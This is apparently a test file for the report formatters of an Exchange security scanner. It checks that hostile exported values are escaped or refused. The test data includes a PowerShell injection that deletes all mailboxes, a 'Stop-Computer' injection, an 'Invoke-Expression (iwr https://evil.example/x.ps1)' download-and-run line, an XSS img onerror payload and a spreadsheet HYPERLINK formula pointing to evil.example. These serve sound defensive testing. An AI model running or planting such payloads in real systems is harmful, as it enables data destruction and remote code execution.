import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Ajv04Module from 'ajv-draft-04';
import addFormats from 'ajv-formats';
import { beforeAll, describe, expect, it } from 'vitest';
import { ACTION_PLAN_HEADER, actionPlanRows, formatActionPlan } from '../../src/formatters/action-plan.js';
import { formatHtml, ROWS_PER_RULE } from '../../src/formatters/html.js';
import { formatJson } from '../../src/formatters/json.js';
import { formatJunit, junitChunks } from '../../src/formatters/junit.js';
import { formatMarkdown } from '../../src/formatters/markdown.js';
import { formatRemediation, remediationChunks, type FindingWithFix } from '../../src/formatters/remediation.js';
import { formatSarif } from '../../src/formatters/sarif.js';
import { formatText } from '../../src/formatters/text.js';
import { loadReportTemplates } from '../../src/io/templates.js';
import type { Finding, ScanResult } from '../../src/model/result.js';
import { hostileBundle } from '../support/hostile.js';
import { ROOT, runCli } from '../support/run-cli.js';
import type { Fix } from '../../src/model/fix.js';
import { command } from '../../src/engine/functions/fix-builder.js';
import { scanBundle, scanExamples } from '../support/scan-helpers.js';
import { locateFindings } from '../../src/io/locate-findings.js';

const Ajv04 = Ajv04Module.default ?? Ajv04Module;
const ajvSarif = new Ajv04({ allErrors: true, strict: false });
addFormats.default(ajvSarif as never);
const validateSarif = ajvSarif.compile(JSON.parse(readFileSync(join(ROOT, 'test/fixtures/sarif-2.1.0.schema.json'), 'utf8')));

let examples: ScanResult;
let hostile: ScanResult;
beforeAll(async () => {
  examples = await scanExamples();
  // As scan does before writing SARIF: the records' offsets become lines (reads the example exports once).
  process.chdir(ROOT);
  await locateFindings(examples);
  hostile = await scanBundle(hostileBundle());
});

/** A finding as plain data (findings are objects with getters: spreading one copies only its own slots). */
const plain = (f: Finding | undefined) => JSON.parse(JSON.stringify(f)) as Finding;

describe('golden outputs of the examples (fixed clock)', () => {
  const formats: [string, (r: ScanResult) => string][] = [
    ['examples.report.html', (r) => formatHtml(r, loadReportTemplates())],
    ['examples.results.sarif', formatSarif],
    ['examples.results.junit.xml', formatJunit],
    ['examples.report.md', formatMarkdown],
    ['examples.remediation.ps1', (r) => formatRemediation(r)],
    ['examples.results.txt', (r) => formatText(r)],
    ['examples.action-plan.csv', (r) => [...formatActionPlan(r)].join('')],
  ];
  for (const [file, render] of formats) {
    it(file, async () => {
      await expect(render(examples)).toMatchFileSnapshot(`../golden/${file}`);
    });
  }
});

describe('SARIF', () => {
  it('validates against the SARIF 2.1.0 schema, for the examples and for hostile input', () => {
    for (const result of [examples, hostile]) {
      const sarif = JSON.parse(formatSarif(result));
      expect(validateSarif(sarif), JSON.stringify(validateSarif.errors?.slice(0, 3))).toBe(true);
    }
  });

  it('has rules with security-severity, fingerprints, logical locations and suppressions for waivers', () => {
    const run = JSON.parse(formatSarif(examples)).runs[0];
    expect(run.tool.driver.rules).toHaveLength(65);
    const r1 = run.tool.driver.rules.find((r: { id: string }) => r.id === 'EXPOP-001');
    expect(r1).toMatchObject({ defaultConfiguration: { level: 'error' }, properties: { 'security-severity': '9.5' }, helpUri: expect.stringMatching(/^https:\/\/learn\.microsoft\.com/) });
    const open = examples.findings.filter((f) => f.verdict === 'fail' || f.verdict === 'error');
    expect(run.results).toHaveLength(open.length);
    const waived = run.results.filter((r: { suppressions?: unknown }) => r.suppressions);
    expect(waived).toHaveLength(examples.summary.waived);
    const admin = run.results.find((r: { ruleId: string }) => r.ruleId === 'EXCAS-001');
    expect(admin.locations[0]).toEqual({
      physicalLocation: { artifactLocation: { uri: 'examples/contoso/legacy-ex2016/CASMailbox.json' }, region: { startLine: 2, startColumn: 5 } },
      logicalLocations: [{ fullyQualifiedName: 'CASMailbox/corp.contoso.com/Staff/Administrator/PopEnabled, ImapEnabled', kind: 'resource' }],
    });
    expect(admin.partialFingerprints['casguardFinding/v1']).toMatch(/^[0-9a-f]{32}$/);
  });

  it('gives every result a file and a region (GitHub rejects results without a location), collection findings their file', () => {
    const run = JSON.parse(formatSarif(examples)).runs[0];
    for (const r of run.results) expect(r.locations[0].physicalLocation).toMatchObject({ artifactLocation: { uri: expect.stringMatching(/^examples\/contoso\//) }, region: { startLine: expect.any(Number), startColumn: expect.any(Number) } });
    // The second POP3 settings record starts on line 166 of the UTF-16 export (found by locating its offset).
    const pop = run.results.find((r: { ruleId: string; properties: { actual?: string } }) => r.ruleId === 'EXPOP-001');
    expect(pop.locations[0].physicalLocation).toEqual({ artifactLocation: { uri: 'examples/contoso/legacy-ex2016/PopSettings.json' }, region: { startLine: 166, startColumn: 5 } });
    const collection = run.results.find((r: { ruleId: string }) => r.ruleId === 'EXCAR-005' || r.ruleId === 'EXX-001');
    expect(collection?.locations[0].physicalLocation.artifactLocation.uri).toMatch(/\.json$/);
  });

  it('above --sarif-max-results sums per-mailbox findings up per rule, so a large organisation still uploads', () => {
    const many = { ...examples, findings: [...examples.findings, ...Array.from({ length: 6000 }, (_, i) => ({ ...plain(examples.findings.find((f) => f.kind === 'CASMailbox' && f.verdict === 'fail')), identity: `user${i}`, fingerprint: `f${i}` }) as (typeof examples.findings)[number])] };
    const run = JSON.parse(formatSarif(many)).runs[0];
    expect(run.results.length).toBeLessThanOrEqual(5000);
    expect(run.properties.aggregated).toMatch(/per-mailbox findings are summed up/);
    const summed = run.results.find((r: { properties: { aggregated?: number } }) => (r.properties.aggregated ?? 0) > 6000);
    expect(summed.message.text).toMatch(/^\d+ mailboxes: /);
    expect(validateSarif(JSON.parse(formatSarif(many, 10))), 'schema').toBe(true);
    expect(JSON.parse(formatSarif(many, 10)).runs[0].results.length).toBeLessThanOrEqual(10);
  });
});

describe('JUnit', () => {
  const count = (xml: string, re: RegExp) => (xml.match(re) ?? []).length;
  const unlisted = (r: ScanResult) => [...formatJunit(r).matchAll(/\((\d+) more resources passed\)/g)].reduce((n, m) => n + Number(m[1]) - 1, 0);
  it('counts match the testcases (the unlisted mailbox passes of a rule count as that many tests), per suite and in total; every element has a time', () => {
    const xml = formatJunit(examples);
    const total = /<testsuites [^>]*tests="(\d+)" failures="(\d+)" errors="(\d+)" skipped="(\d+)" time="0"/.exec(xml);
    expect(Number(total?.[1])).toBe(count(xml, /<testcase /g) + unlisted(examples));
    expect(Number(total?.[2])).toBe(count(xml, /<failure /g));
    expect(Number(total?.[3])).toBe(count(xml, /<error /g));
    expect(Number(total?.[4])).toBe(count(xml, /<skipped /g));
    expect(count(xml, /<testcase [^>]*time="0"/g)).toBe(count(xml, /<testcase /g));
    for (const suite of xml.split('<testsuite ').slice(1)) {
      const head = /^name="[^"]*" tests="(\d+)" failures="(\d+)"/.exec(suite);
      const body = suite.split('</testsuite>')[0] ?? '';
      const extra = [...body.matchAll(/\((\d+) more resources passed\)/g)].reduce((n, m) => n + Number(m[1]) - 1, 0);
      expect(Number(head?.[1])).toBe(count(body, /<testcase /g) + extra);
      expect(Number(head?.[2])).toBe(count(body, /<failure /g));
    }
    expect(xml).toMatch(/<testsuite name="exchange-baseline\.PopSettings"/);
  });

  it('agrees with the gate: findings below --fail-on pass with the finding in system-out; --fail-on none fails nothing', () => {
    const xml = formatJunit(examples);
    const openAtOrAbove = examples.findings.filter((f) => (f.verdict === 'fail' || f.verdict === 'error') && !f.waiver && !f.accepted && (f.severity === 'critical' || f.severity === 'high'));
    expect(count(xml, /<failure /g) + count(xml, /<error /g)).toBe(openAtOrAbove.length);
    expect(xml).toMatch(/<system-out>FAIL \(medium, below the gate \(--fail-on high\)\): /);
    const ungated = formatJunit({ ...examples, gate: { failOn: 'none', passed: true, exitCode: 0 } });
    expect(count(ungated, /<failure |<error /g)).toBe(0);
    expect(ungated).toMatch(/<system-out>FAIL \(critical, the gate is not enforced \(--fail-on none\)\): /);
  });

  it('an error accepted in the baseline is skipped like an accepted failure (the gate ignores both)', () => {
    const errored = { ...plain(examples.findings.find((f) => f.verdict === 'fail' && f.severity === 'critical')), verdict: 'error' as const, accepted: true };
    const xml = formatJunit({ ...examples, findings: [errored] });
    expect(count(xml, /<error /g)).toBe(0);
    expect(xml).toMatch(/<skipped message="accepted in baseline: /);
  });

  it('is written in pieces that join to the one-string form, so a large result never becomes one string', () => {
    const mailbox = plain(examples.findings.find((f) => f.kind === 'CASMailbox' && f.verdict === 'fail'));
    const many = { ...examples, findings: [...examples.findings, ...Array.from({ length: 8000 }, (_, i) => ({ ...mailbox, identity: `corp.contoso.com/Users/user${i}` }))] };
    const pieces = [...junitChunks(many)];
    expect(pieces.length).toBeGreaterThan(3);
    expect(Math.max(...pieces.map((p) => p.length))).toBeLessThan(2 << 20);
    expect(pieces.join('')).toBe(formatJunit(many));
    expect(count(pieces.join(''), /<testcase /g)).toBe(count(formatJunit(examples), /<testcase /g) + 8000);
  });

  it('escapes hostile strings', () => {
    const xml = formatJunit(hostile);
    expect(xml).not.toMatch(/<img|<script|<svg|<link/);
    expect(xml).toContain('&lt;img src=x onerror=&quot;window.__pwned=1&quot;&gt;');
  });
});

describe('Markdown', () => {
  it('summarises the posture, the gate, counts and top findings, and neutralises markup', () => {
    const text = formatMarkdown(hostile);
    expect(text).toMatch(/❌ Gate failed \(fail on high\)/);
    expect(text).toMatch(/^🔴 \*\*Action needed: \d+ critical and \d+ high findings are open\*\*$/m);
    expect(text).toMatch(/\| critical \| \d+ \|/);
    expect(text).not.toMatch(/<img|<script|<svg/);
    for (const line of text.split('\n').filter((l) => l.startsWith('| critical') || l.startsWith('| high'))) {
      expect(line.replace(/\\\|/g, '').split('|').length).toBeLessThanOrEqual(6);
    }
  });

  it('links each rule to its documentation and folds the fixes of the top findings in <details>, markup in values kept as text', () => {
    const text = formatMarkdown(examples);
    expect(text).toContain('| critical | [EXPOP-001](https://learn.microsoft.com/powershell/module/exchangepowershell/set-popsettings) | EX2016B |');
    expect(text).toMatch(/<details><summary>Fixes of the top findings[^<]*<\/summary>\n\n\*\*EXPOP-001\*\* EX2016B\n\n<pre lang="powershell"><code>Set-PopSettings -Server &#39;EX2016B&#39; -LoginType SecureLogin|<details><summary>Fixes of the top findings[^<]*<\/summary>\n\n\*\*EXPOP-001\*\* EX2016B\n\n<pre lang="powershell"><code>Set-PopSettings -Server 'EX2016B' -LoginType SecureLogin/);
    expect(text).not.toMatch(/Gate passed/);
    const hostileText = formatMarkdown(hostile);
    expect(hostileText).toContain('&lt;img src=x onerror=');
    // Nothing in a value closes the code block early.
    for (const block of hostileText.split('<pre lang="powershell"><code>').slice(1)) expect(block.indexOf('</code></pre>')).toBe(block.search(/<\/code><\/pre>/));
  });

  it('says what is new since the baseline when one was given', () => {
    expect(formatMarkdown({ ...examples, baseline: { accepted: 5 } })).toMatch(/### New since the baseline\n\n\d+ open findings are new since the baseline \(5 accepted there\)\./);
    expect(formatMarkdown(examples)).not.toContain('New since the baseline');
  });
});

describe('remediation script', () => {
  const changing = /^(Set|New|Remove|Enable|Disable|Stop|Start|Restart)-/;
  const body = (ps: string) => ps.split('\r\n').map((l) => l.trim());

  it('is UTF-8 with a BOM and CRLF (Windows PowerShell 5.1 reads a BOM-less script in the ANSI code page)', () => {
    const bytes = Buffer.from(formatRemediation(hostile), 'utf8');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.toString('utf8')).not.toMatch(/[^\r]\n/);
    // "ł" is C5 82 in UTF-8; read as Windows-1252, 82 is a low single quote that PowerShell takes for '.
    expect(bytes.includes(Buffer.from('Michał', 'utf8'))).toBe(true);
  });

  it('puts -WhatIf on every change, decided from the cmdlet, and wraps each server in try/catch', () => {
    const ps = formatRemediation(examples);
    const commands = body(ps).filter((l) => l && !l.startsWith('#') && !l.startsWith('$') && !/^(try|\}|if )/.test(l) && !l.startsWith('Write-Warning'));
    expect(commands.length).toBeGreaterThan(20);
    for (const l of commands) {
      if (l.startsWith('Invoke-Command')) expect(l).toMatch(/ -WhatIf \}$/);
      else if (changing.test(l)) expect(l, l).toMatch(/ -WhatIf$/);
    }
    for (const server of ['EX2016A', 'EX2016B', 'EXSE01', 'EXSE02']) expect(ps).toMatch(new RegExp(`# Server ${server}\r\n# =+\r\ntry \\{`));
    expect(ps.match(/\} catch \{/g)?.length).toBe(5);
    expect(ps).toMatch(/\$casguardFailed \+= 'server EX2016B'/);
    // An exported name containing "-WhatIf" does not stand in for the script's own -WhatIf.
    const legacy = body(formatRemediation(hostile)).find((l) => l.startsWith('Set-') && l.includes('Legacy -WhatIf'));
    expect(legacy).toMatch(/^Set-CASMailbox -Identity 'corp\.contoso\.com\/Staff\/Legacy -WhatIf 8' -PopEnabled \$false -ImapEnabled \$false -WhatIf$/);
  });

  it('drops -WhatIf with --apply-ready', () => {
    expect(formatRemediation(examples, true)).not.toMatch(/-WhatIf/);
  });

  it('changes each mailbox with one Set-CASMailbox, naming every rule it fixes', () => {
    const ps = formatRemediation(examples);
    const admin = body(ps).filter((l) => l.startsWith("Set-CASMailbox -Identity 'corp.contoso.com/Staff/Administrator'"));
    expect(admin).toEqual(["Set-CASMailbox -Identity 'corp.contoso.com/Staff/Administrator' -PopEnabled $false -ImapEnabled $false -WhatIf"]);
    expect(ps).toMatch(/# EXCAS-001 high: [^\r]*\r\n {4}# EXCAS-003 medium: [^\r]*Administrator[^\r]*\r\n {4}# EXCAS-004 medium: [^\r]*\r\n {4}Set-CASMailbox -Identity 'corp\.contoso\.com\/Staff\/Administrator'/);
  });

  it('puts each caveat right after the merged command it qualifies, never after the change as a separate block', () => {
    const lines = body(formatRemediation(examples));
    const caveat = lines.findIndex((l) => l.startsWith('# manual step: check first that every server presents a valid CA certificate for IMAP4'));
    const command = lines.findIndex((l) => l.startsWith("Set-ImapSettings -Server 'EX2016A'"));
    expect(command).toBeGreaterThan(0);
    expect(command).toBeLessThan(caveat);
    expect(lines.slice(command + 1, caveat).every((l) => l.startsWith('# manual step:'))).toBe(true);
    // The finding is named once, above the command that carries its change.
    expect(lines.filter((l) => l.startsWith('# EXIMAP-016 info: IMAP4 on EX2016A'))).toHaveLength(1);
  });

  it('never restarts a service its block stops or disables, and restarts only running services', () => {
    const fix = (server: string, commands: Fix['commands'], restarts: Fix['restarts']): Fix => ({ commands: commands.map((c) => ({ ...c, server })), restarts, manual: [] });
    const finding = (ruleId: string, server: string, f: Fix) => ({ ...(examples.findings[0] as ScanResult['findings'][number]), ruleId, verdict: 'fail' as const, server, message: ruleId, waiver: undefined, fix: f });
    const pop = ['MSExchangePOP3', 'MSExchangePOP3BE'];
    const imap = ['MSExchangeIMAP4', 'MSExchangeIMAP4BE'];
    const result = {
      ...examples,
      findings: [
        finding('EXPOP-010', 'EX1', fix('EX1', [command('Set-PopSettings', { Server: 'EX1', ProtocolLogEnabled: true })], [{ server: 'EX1', services: pop }])),
        finding('EXIMAP-010', 'EX1', fix('EX1', [command('Set-ImapSettings', { Server: 'EX1', ProtocolLogEnabled: true })], [{ server: 'EX1', services: imap }])),
        finding('EXSVC-001', 'EX1', fix('EX1', [{ ...command('Stop-Service', { Name: pop }), stops: pop }], [])),
      ],
    };
    const ps = formatRemediation(result);
    expect(body(ps).filter((l) => /Restart-Service/.test(l))).toEqual([
      "Invoke-Command -ComputerName 'EX1' -ScriptBlock { Get-Service -Name MSExchangeIMAP4,MSExchangeIMAP4BE | Where-Object { $_.Status -eq 'Running' } | Restart-Service -WhatIf }",
    ]);
  });

  it('is written in pieces that join to the one-string form (a fix per mailbox for a large organisation)', () => {
    const failing = examples.findings.find((f) => f.kind === 'CASMailbox' && f.verdict === 'fail' && (f as FindingWithFix).fix) as FindingWithFix;
    // Findings keep their structured fix in memory: a copy per mailbox with the identity changed in its command.
    const copies = Array.from({ length: 12_000 }, (_, i) => {
      const fix = failing.fix as NonNullable<FindingWithFix['fix']>;
      return { ...plain(failing), identity: `corp.contoso.com/Users/user${i}`, fix: { ...fix, commands: fix.commands.map((c) => ({ ...c, args: c.args.map((a, j) => (j === 0 ? { ...a, value: `'corp.contoso.com/Users/user${i}'` } : a)) })) } };
    });
    const many = { ...examples, findings: [...examples.findings, ...copies] };
    const pieces = [...remediationChunks(many)];
    expect(pieces.length).toBeGreaterThan(1);
    expect(pieces.join('')).toBe(formatRemediation(many));
    expect(pieces.join('')).toContain("'corp.contoso.com/Users/user11999'");
  });

  it('gives no fix for a finding that could not be evaluated, only how to get the evidence', () => {
    const errored = { ...plain(examples.findings.find((f) => f.verdict === 'fail')), verdict: 'error' as const, message: 'could not be checked', fix: undefined };
    const ps = formatRemediation({ ...examples, findings: [errored as (typeof examples.findings)[number]] });
    expect(ps).toContain('# Nothing to fix');
    expect(ps).toMatch(/# Not fixed: findings that could not be evaluated[^\r]*\r\n# Export the missing or cut-off values again \(ConvertTo-Json -Depth 5\)[^\r]*\r\n# [A-Z]+-\d+ \w+: could not be checked/);
  });

  it('quotes every exported value so no string can inject PowerShell, whatever quote characters it holds', () => {
    const ps = formatRemediation(hostile);
    for (const line of body(ps).filter((l) => l && !l.startsWith('#'))) {
      // Outside single-quoted strings (every quote PowerShell knows: ' ‘ ’ ‚ ‛) nothing from an export remains.
      const outside = line.replace(/['\u2018-\u201b](?:[^'\u2018-\u201b]|['\u2018-\u201b]{2})*['\u2018-\u201b]/g, "''");
      expect(outside, line).not.toMatch(/Remove-Mailbox|Stop-Computer|Invoke-Pwned|\$\(|<img|onerror/);
    }
    expect(ps).toContain("Set-CASMailbox -Identity 'corp.contoso.com/Staff/''; Remove-Mailbox -Identity * -Confirm:$false; '' 4' -PopEnabled $false -ImapEnabled $false -WhatIf");
    expect(ps).toContain("Set-CASMailbox -Identity ('corp.contoso.com/Staff/`n# line break attempt' + [char]13 + [char]10 + 'Stop-Computer 6') -PopEnabled $false -ImapEnabled $false -WhatIf");
    expect(ps).toContain("Invoke-Command -ComputerName 'EVIL<b>01\u2019\u2019; Invoke-Pwned; \u2018\u2018' -ScriptBlock");
  });

  it('is not written from a saved result: render refuses, so no PowerShell is copied from a file', () => {
    const dir = mkdtempSync(join(tmpdir(), 'casguard-render-'));
    const saved = join(dir, 'results.json');
    const doctored = JSON.parse(formatJson(examples)) as ScanResult;
    for (const f of doctored.findings) if (f.remediation) f.remediation = 'Invoke-Expression (iwr https://evil.example/x.ps1)';
    writeFileSync(saved, JSON.stringify(doctored));
    const out = runCli(['render', saved, '-f', 'remediation', '-o', join(dir, 'fix.ps1')]);
    expect(out.code).toBe(2);
    expect(out.stderr).toMatch(/^error: .*remediation script.*scan/m);
    expect(existsSync(join(dir, 'fix.ps1'))).toBe(false);
  });
});

describe('HTML', () => {
  it('is one self-contained file with a strict Content-Security-Policy and no external references', () => {
    const html = formatHtml(examples, loadReportTemplates());
    expect(html).toMatch(/<meta http-equiv="Content-Security-Policy" content="default-src &#x27;none&#x27;; style-src &#x27;sha256-[A-Za-z0-9+/]+(&#x3D;)*&#x27;;/);
    expect(html).not.toMatch(/<script|<link|<img|@import|url\(/);
    expect(html).not.toMatch(/ style="/);
  });

  it('escapes every exported string', () => {
    const html = formatHtml(hostile, loadReportTemplates());
    expect(html).not.toMatch(/<img|<script|<link rel|<foreignObject/);
    // The only SVG is the report's own two pictures.
    expect(html.match(/<svg/g)).toHaveLength(2);
    expect(html).toContain('&lt;img src&#x3D;x onerror&#x3D;&quot;window.__pwned&#x3D;1&quot;&gt;');
    expect(html).toContain('{{constructor.constructor');
  });

  it('stays under 10 MB at 100,000 mailboxes with 10,000 failing ones', () => {
    const base = examples;
    const failing = Array.from({ length: 10_000 }, (_, i) => ({
      ...JSON.parse(JSON.stringify(base.findings.find((f) => f.ruleId === 'EXCAS-003'))),
      identity: `corp.contoso.com/Staff/User ${i}`,
      name: `User ${i}`,
    }));
    const big: ScanResult = { ...base, findings: [...base.findings, ...failing], summary: { ...base.summary, pass: base.summary.pass + 90_000 } };
    const html = formatHtml(big, loadReportTemplates());
    expect(html.length).toBeLessThan(10 * 1024 * 1024);
    const listed = big.findings.filter((f) => f.ruleId === 'EXCAS-003' && f.verdict === 'fail').length;
    expect(html).toContain(`Showing the first ${ROWS_PER_RULE} of ${listed} resources. All of them are in the action plan (action-plan.csv`);
  });

  it('renders from a saved result exactly as from the scan (render round trip)', () => {
    const saved = JSON.parse(formatJson(examples)) as ScanResult;
    expect(formatHtml(saved, loadReportTemplates())).toBe(formatHtml(examples, loadReportTemplates()));
    expect(formatSarif(saved)).toBe(formatSarif(examples));
  });
});

describe('terminal colour', () => {
  it('colours a TTY unless NO_COLOR; FORCE_COLOR colours a pipe; --color/--no-color decide over both', async () => {
    const { useColour } = await import('../../src/cli/outputs.js');
    const { setOutputPrefs } = await import('../../src/cli/output-prefs.js');
    const tty = { isTTY: true } as NodeJS.WriteStream;
    const pipe = { isTTY: false } as NodeJS.WriteStream;
    expect(useColour(tty, {})).toBe(true);
    expect(useColour(pipe, {})).toBe(false);
    expect(useColour(tty, { NO_COLOR: '1' })).toBe(false);
    expect(useColour(pipe, { FORCE_COLOR: '1' })).toBe(true);
    expect(useColour(tty, { FORCE_COLOR: '0' })).toBe(false);
    setOutputPrefs({ quiet: false, colour: false });
    expect(useColour(tty, { FORCE_COLOR: '1' })).toBe(false);
    setOutputPrefs({ quiet: false, colour: true });
    expect(useColour(pipe, { NO_COLOR: '1' })).toBe(true);
    setOutputPrefs({ quiet: false });
    const { COLOUR } = await import('../../src/formatters/text.js');
    expect(formatText(examples, COLOUR)).toContain('\u001b[1;31mCRITICAL');
    expect(formatText(examples)).not.toContain('\u001b[');
  });
});

describe('action plan (-f csv)', () => {
  it('has one row per open failing or erroring finding, worst first, with empty tracking columns', () => {
    const text = [...formatActionPlan(examples)].join('');
    expect(text.startsWith('\uFEFF')).toBe(true);
    const lines = text.slice(1).split('\r\n').filter(Boolean);
    expect(lines[0]).toBe(ACTION_PLAN_HEADER.join(','));
    const open = examples.findings.filter((f) => (f.verdict === 'fail' || f.verdict === 'error') && !f.waiver && !f.accepted);
    expect(actionPlanRows(examples)).toHaveLength(open.length);
    expect(open.length).toBeGreaterThan(10);
    // Records end in CRLF; a line break inside a cell (a fix of several commands) is quoted, as RFC 4180 allows.
    let quoted = false;
    let records = 0;
    for (let i = 0; i < text.length; i++) {
      if (text[i] === '"') quoted = !quoted;
      else if (!quoted && text[i] === '\n') {
        expect(text[i - 1]).toBe('\r');
        records++;
      }
    }
    expect(records).toBe(open.length + 1);
    expect(lines[1]).toMatch(/^EXPOP-001,POP3 login type is not SecureLogin,critical,fail,EX2016B,EX2016B,LoginType,SecureLogin,PlainTextLogin,/);
    expect(lines[1]?.endsWith(',,,')).toBe(true);
    expect(actionPlanRows(examples).map((f) => f.severity)).toEqual([...actionPlanRows(examples).map((f) => f.severity)].sort((a, b) => ['critical', 'high', 'medium', 'low', 'info'].indexOf(a) - ['critical', 'high', 'medium', 'low', 'info'].indexOf(b)));
  });

  it('neutralises formulas from exported text and quotes per RFC 4180', () => {
    const text = [...formatActionPlan(hostile)].join('');
    for (const cell of text.split(/,|\r\n/)) expect(cell).not.toMatch(/^"?[=+@\t]/);
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""click"")`);
    expect(text).toContain(`'@SUM(1+1)`);
  });
});
